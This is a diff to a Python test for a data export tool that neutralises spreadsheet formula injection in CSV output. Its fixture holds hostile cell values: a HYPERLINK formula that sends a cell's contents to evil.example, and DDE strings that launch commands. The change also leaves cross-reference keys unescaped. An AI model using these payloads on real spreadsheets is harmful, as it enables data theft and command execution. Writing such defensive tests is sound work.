@@ -57,8 +57,9 @@ def test_golden_export_has_the_rules_columns_and_types_without_records_or_values
 
 
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
-    """A value a source sent (a name, a city, a key) that starts like a formula is written after a
-    "'" so that a spreadsheet opening the export shows it instead of running it; phones stay."""
+    """A value a source sent (a name, a city, a quarantined row's key) that starts like a formula is
+    written after a "'" so that a spreadsheet opening the export shows it instead of running it;
+    phones stay, and so do the cross-reference's keys, which programs map."""
     db = tmp_path / "mdm.duckdb"
     attacks = {"full_name": '=HYPERLINK("http://evil.example/?d="&B2,"Click")',
                "city": "-2+3+cmd|' /C calc'!A0", "company": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -83,7 +84,7 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_p
     assert row["phone"] == "+84912345678" and row["all_phones"] == "+84912345678; +84 987 654 321"
     assert row["tax_id"] == "-0101"  # a number
     with (tmp_path / "xref.csv").open(encoding="utf-8") as fh:
-        assert list(csv.DictReader(fh))[0]["source_id"] == "'=1+1"
+        assert list(csv.DictReader(fh))[0]["source_id"] == "=1+1"  # a key, for programs: exactly
     with (tmp_path / "quarantine.csv").open(encoding="utf-8") as fh:
         quarantined = list(csv.DictReader(fh))[0]
     assert (quarantined["source_id"], quarantined["raw"]) == ("'@A1", "'=cmd|x,1")
